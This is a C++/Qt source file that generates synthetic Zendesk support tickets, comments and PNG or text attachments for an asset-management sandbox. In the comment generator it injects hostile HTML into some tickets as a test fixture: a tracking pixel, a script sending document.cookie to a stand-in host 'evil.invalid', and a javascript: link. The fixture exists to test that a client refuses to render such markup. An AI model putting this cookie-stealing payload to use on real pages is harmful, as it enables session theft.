#include "sandbox/zendesk/zendeskticketgenerator.h"

#include "sandbox/dam/damvocabulary.h"
#include "sandbox/splitmix64.h"
#include "sandbox/zendesk/zendeskdirectory.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QImage>

namespace AssetDesk::Sandbox {

namespace {

const QDateTime kFirstCreated(QDate(2025, 1, 1), QTime(0, 0), Qt::UTC);
constexpr qint64 kSpanMs = 669LL * 24 * 3600 * 1000; // to 2026-11-01
constexpr qint64 kDayMs = 24LL * 3600 * 1000;

const QStringList& products()
{
    static const QStringList list{QStringLiteral("Aurora X2"), QStringLiteral("Nimbus Pro"),
                                  QStringLiteral("Solis 3"),   QStringLiteral("Vento Air"),
                                  QStringLiteral("Terra One"), QStringLiteral("Lumen Mini")};
    return list;
}

const QStringList& outlets()
{
    static const QStringList list{QStringLiteral("Daily Courier"), QStringLiteral("Tech Ledger"),
                                  QStringLiteral("Metro Morning"), QStringLiteral("Design Weekly"),
                                  QStringLiteral("Business Wire Today")};
    return list;
}

QString tagOf(const QString& text)
{
    QString out = text.toLower();
    for (QChar& c : out) {
        if (!c.isLetterOrNumber())
            c = QLatin1Char('_');
    }
    return out;
}

QString htmlEscaped(const QString& text)
{
    QString out = text.toHtmlEscaped();
    out.replace(QLatin1String("\n\n"), QLatin1String("</p><p>"));
    out.replace(QLatin1Char('\n'), QLatin1String("<br>"));
    return QStringLiteral("<div class=\"zd-comment\" dir=\"auto\"><p>%1</p></div>").arg(out);
}

template<typename T>
const T& pickFrom(const QList<T>& list, quint64 draw)
{
    return list.at(qsizetype(draw % quint64(list.size())));
}

} // namespace

ZendeskTicketGenerator::ZendeskTicketGenerator(quint64 seed, qint64 size, const ZendeskDirectory* directory)
    : m_key(SplitMix64::derive(seed, u"zendesk/tickets"))
    , m_size(size)
    , m_directory(directory)
{}

quint64 ZendeskTicketGenerator::draw(qint64 id, quint64 salt) const
{
    SplitMix64 random(m_key ^ (quint64(id) * 0x9e3779b97f4a7c15ULL) ^ (salt * 0xc2b2ae3d27d4eb4fULL));
    return random.next();
}

qint64 ZendeskTicketGenerator::updatedMs(qint64 id) const
{
    const qint64 step = kSpanMs / std::max<qint64>(m_size, 1);
    const qint64 created = kFirstCreated.toMSecsSinceEpoch() + (id - 1) * step + qint64(draw(id, 1) % quint64(std::max<qint64>(step / 2, 1))) / 1000 * 1000;
    // Most tickets changed within two weeks of arrival; a few stayed untouched.
    const quint64 d = draw(id, 2);
    return (d % 8 == 0) ? created : created + qint64(d % quint64(14 * kDayMs)) / 1000 * 1000;
}

ZendeskTicket ZendeskTicketGenerator::ticket(qint64 id, bool withText) const
{
    ZendeskTicket t;
    t.id = id;
    const qint64 step = kSpanMs / std::max<qint64>(m_size, 1);
    t.createdAt = QDateTime::fromMSecsSinceEpoch(
        kFirstCreated.toMSecsSinceEpoch() + (id - 1) * step + qint64(draw(id, 1) % quint64(std::max<qint64>(step / 2, 1))) / 1000 * 1000,
        Qt::UTC);
    t.updatedMs = updatedMs(id);
    const quint64 d = draw(id, 3);
    const int k = int(d % 100);
    t.kind = k < 30 ? ZendeskTicketKind::MediaRequest
             : k < 40 ? ZendeskTicketKind::PressRequest
             : k < 55 ? ZendeskTicketKind::AccessProblem
                      : ZendeskTicketKind::General;
    const quint64 s = draw(id, 4);
    static const QStringList statuses{QStringLiteral("new"),  QStringLiteral("open"),   QStringLiteral("open"),
                                      QStringLiteral("open"), QStringLiteral("pending"), QStringLiteral("pending"),
                                      QStringLiteral("hold"), QStringLiteral("solved"), QStringLiteral("solved"),
                                      QStringLiteral("solved"), QStringLiteral("closed"), QStringLiteral("closed")};
    t.status = pickFrom(statuses, s);
    static const QStringList priorities{QStringLiteral("low"), QStringLiteral("normal"), QStringLiteral("normal"),
                                        QStringLiteral("normal"), QStringLiteral("high"), QString()};
    t.priority = pickFrom(priorities, s >> 8);
    static const QStringList types{QStringLiteral("question"), QStringLiteral("incident"), QStringLiteral("task"),
                                   QStringLiteral("problem"), QString()};
    t.type = pickFrom(types, s >> 16);
    static const QStringList channels{QStringLiteral("email"), QStringLiteral("web"), QStringLiteral("email"),
                                      QStringLiteral("api")};
    t.channel = pickFrom(channels, s >> 24);

    const quint64 p = draw(id, 5);
    const QString product = pickFrom(products(), p);
    const QString campaign = pickFrom(DamVocabulary::campaigns(), p >> 8);
    const QString outlet = pickFrom(outlets(), p >> 16);
    if (m_directory && !m_directory->endUserIds().isEmpty()) {
        t.requesterId = pickFrom(m_directory->endUserIds(), p >> 24);
        if (const ZendeskUser* u = m_directory->user(t.requesterId))
            t.organizationId = u->organizationId;
        if (t.status != QLatin1String("new"))
            t.assigneeId = pickFrom(m_directory->agentIds(), p >> 32);
    }
    t.submitterId = t.requesterId;

    const quint64 v = draw(id, 6);
    switch (t.kind) {
    case ZendeskTicketKind::MediaRequest: {
        static const QStringList what{QStringLiteral("logo"), QStringLiteral("product_shots"), QStringLiteral("video")};
        const QString asset = pickFrom(what, v);
        t.tags = {QStringLiteral("media_request"), asset, tagOf(product), QStringLiteral("campaign_") + tagOf(campaign)};
        if (asset == QLatin1String("logo"))
            t.subject = QStringLiteral("Logo files for %1 (%2)").arg(campaign, product);
        else if (asset == QLatin1String("video"))
            t.subject = QStringLiteral("B-roll of the %1 launch for %2").arg(product, campaign);
        else
            t.subject = QStringLiteral("Need hi-res %1 product shots for %2").arg(product, campaign);
        t.groupId = m_directory ? m_directory->mediaGroupId() : 0;
        break;
    }
    case ZendeskTicketKind::PressRequest:
        t.tags = {QStringLiteral("press"), QStringLiteral("media_request"), tagOf(product)};
        t.priority = (v % 10 < 7) ? QStringLiteral("urgent") : QStringLiteral("high");
        t.subject = QStringLiteral("URGENT: %1 needs %2 images before %3:00 today").arg(outlet, product).arg(14 + int(v % 5));
        t.groupId = m_directory ? m_directory->pressGroupId() : 0;
        break;
    case ZendeskTicketKind::AccessProblem:
        t.tags = {QStringLiteral("access_problem"), QStringLiteral("photoshelter"), QStringLiteral("campaign_") + tagOf(campaign)};
        t.subject = (v % 2) ? QStringLiteral("Can't open the \"%1\" gallery").arg(campaign)
                            : QStringLiteral("Gallery link for %1 says access denied").arg(campaign);
        t.groupId = m_directory ? m_directory->accessGroupId() : 0;
        break;
    case ZendeskTicketKind::General: {
        static const QStringList subjects{QStringLiteral("Question about invoice %1"),
                                          QStringLiteral("Password reset does not arrive (%1)"),
                                          QStringLiteral("Feature request: bulk download, ref %1"),
                                          QStringLiteral("Broken link on the press page (%1)")};
        t.subject = pickFrom(subjects, v).arg(10000 + id);
        t.tags = {QStringLiteral("general")};
        t.groupId = m_directory ? m_directory->supportGroupId() : 0;
        break;
    }
    }
    if (withText) {
        switch (t.kind) {
        case ZendeskTicketKind::MediaRequest:
            t.description = QStringLiteral("Hello,\n\nfor our %1 material we need the %2 assets in print "
                                           "resolution. Could you send the approved files (or a link to "
                                           "the DAM collection)?\n\nThanks!")
                                .arg(campaign, product);
            break;
        case ZendeskTicketKind::PressRequest:
            t.description = QStringLiteral("Hi, I'm writing a piece for %1 about the %2 and need two or three "
                                           "press images with credits. Our deadline is this afternoon.")
                                .arg(outlet, product);
            break;
        case ZendeskTicketKind::AccessProblem:
            t.description = QStringLiteral("The PhotoShelter gallery \"%1\" you shared with us shows "
                                           "\"Access denied\" since yesterday. Can you check the "
                                           "permissions or send a new link?")
                                .arg(campaign);
            break;
        case ZendeskTicketKind::General:
            t.description = QStringLiteral("Hello support team,\n\n%1. Can you help?").arg(t.subject);
            break;
        }
    }
    return t;
}

QString ZendeskTicketGenerator::kindTag(ZendeskTicketKind kind)
{
    switch (kind) {
    case ZendeskTicketKind::MediaRequest: return QStringLiteral("media_request");
    case ZendeskTicketKind::PressRequest: return QStringLiteral("press");
    case ZendeskTicketKind::AccessProblem: return QStringLiteral("access_problem");
    case ZendeskTicketKind::General: break;
    }
    return QStringLiteral("general");
}

ZendeskAttachment ZendeskTicketGenerator::makeAttachment(qint64 id, const QString& fileName, const ZendeskTicket& ticket) const
{
    ZendeskAttachment a;
    a.id = id;
    a.fileName = fileName;
    const bool png = fileName.endsWith(QLatin1String(".png"));
    a.contentType = png ? QStringLiteral("image/png") : QStringLiteral("text/plain");
    if (png) {
        a.width = 160;
        a.height = 100;
    }
    const QByteArray bytes = renderBytes(a, draw(id, 7), ticket.subject);
    a.size = bytes.size();
    a.sha256 = QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex();
    return a;
}

QByteArray ZendeskTicketGenerator::renderBytes(const ZendeskAttachment& a, quint64 draw, const QString& text)
{
    if (a.contentType != QLatin1String("image/png"))
        return QStringLiteral("Attachment %1\n%2\n").arg(a.fileName, text).toUtf8();
    QImage image(a.width, a.height, QImage::Format_RGB32);
    const QRgb top = qRgb(int(draw & 0xff), int((draw >> 8) & 0xff), int((draw >> 16) & 0xff));
    for (int y = 0; y < image.height(); ++y) {
        auto* line = reinterpret_cast<QRgb*>(image.scanLine(y));
        for (int x = 0; x < image.width(); ++x)
            line[x] = qRgb((qRed(top) + x) & 0xff, (qGreen(top) + y) & 0xff, qBlue(top));
    }
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

QList<ZendeskComment> ZendeskTicketGenerator::comments(const ZendeskTicket& ticket) const
{
    QList<ZendeskComment> out;
    if (ticket.id < 1 || ticket.id > m_size)
        return out;
    const quint64 d = draw(ticket.id, 8);
    const int count = 1 + int(d % 4);
    const qint64 createdMs = ticket.createdAt.toMSecsSinceEpoch();
    const ZendeskTicket base = this->ticket(ticket.id, true);
    const qint64 span = std::max<qint64>(updatedMs(ticket.id) - createdMs, 0);
    const qint64 agent = base.assigneeId ? base.assigneeId
                                         : (m_directory && !m_directory->agentIds().isEmpty() ? m_directory->agentIds().first() : 0);
    for (int k = 0; k < count; ++k) {
        ZendeskComment c;
        c.id = kCommentIdBase + ticket.id * kMaxComments + k;
        c.ticketId = ticket.id;
        c.createdAt = QDateTime::fromMSecsSinceEpoch(createdMs + span * k / count / 1000 * 1000, Qt::UTC);
        const int role = k == 0 ? 0 : (k % 3 == 1 ? 1 : (k % 3 == 2 ? 2 : 3));
        auto attach = [&](int j, const QString& name) {
            const qint64 id = kAttachmentIdBase + (ticket.id * kMaxComments + k) * kMaxAttachments + j;
            c.attachments.append(makeAttachment(id, name, base));
        };
        switch (role) {
        case 0: // the requester's first message: the ticket's description
            c.authorId = base.requesterId;
            c.body = base.description;
            c.channel = base.channel;
            if (base.kind == ZendeskTicketKind::AccessProblem && (d >> 8) % 2 == 0)
                attach(0, QStringLiteral("screenshot-%1.png").arg(ticket.id));
            if (base.kind == ZendeskTicketKind::MediaRequest && (d >> 8) % 3 == 0)
                attach(0, QStringLiteral("brief-%1.txt").arg(ticket.id));
            break;
        case 1: // a public agent reply
            c.authorId = agent;
            c.body = QStringLiteral("Thanks for reaching out - we are on it and will get back to you shortly.");
            c.channel = QStringLiteral("web");
            if ((d >> 12) % 5 == 0)
                attach(0, QStringLiteral("usage-guidelines.txt"));
            break;
        case 2: // an internal note
            c.authorId = agent;
            c.isPublic = false;
            c.body = QStringLiteral("Internal: checked the DAM, rights for this request are %1.")
                         .arg((d >> 16) % 2 ? QStringLiteral("cleared") : QStringLiteral("pending legal review"));
            c.channel = QStringLiteral("web");
            break;
        default: // the requester follows up
            c.authorId = base.requesterId;
            c.body = QStringLiteral("Any news on this? We still need it.");
            c.channel = QStringLiteral("email");
            break;
        }
        c.htmlBody = htmlEscaped(c.body);
        // Hostile markup as a mail client might deliver it: a tracking pixel, a script and a
        // javascript: link. A client must never render or fetch any of it.
        if (k == 0 && ticket.id % 23 == 7)
            c.htmlBody = QStringLiteral("<div class=\"zd-comment\"><p>%1</p>"
                                        "<img src=\"http://tracker.invalid/pixel.gif?t=%2\" width=\"1\" height=\"1\">"
                                        "<script>document.location='http://evil.invalid/?c='+document.cookie</script>"
                                        "<a href=\"javascript:alert(1)\">details</a></div>")
                             .arg(c.body.toHtmlEscaped())
                             .arg(ticket.id);
        out.append(c);
    }
    return out;
}

ZendeskAttachment ZendeskTicketGenerator::attachment(qint64 attachmentId) const
{
    const qint64 offset = attachmentId - kAttachmentIdBase;
    if (offset < 0)
        return {};
    const qint64 ticketId = offset / kMaxAttachments / kMaxComments;
    if (ticketId < 1 || ticketId > m_size)
        return {};
    for (const ZendeskComment& c : comments(ticket(ticketId, false))) {
        for (const ZendeskAttachment& a : c.attachments) {
            if (a.id == attachmentId)
                return a;
        }
    }
    return {};
}

QByteArray ZendeskTicketGenerator::attachmentBytes(qint64 attachmentId) const
{
    const ZendeskAttachment a = attachment(attachmentId);
    if (a.id == 0)
        return {};
    const qint64 ticketId = (attachmentId - kAttachmentIdBase) / kMaxAttachments / kMaxComments;
    return renderBytes(a, draw(attachmentId, 7), ticket(ticketId, false).subject);
}

} // namespace AssetDesk::Sandbox
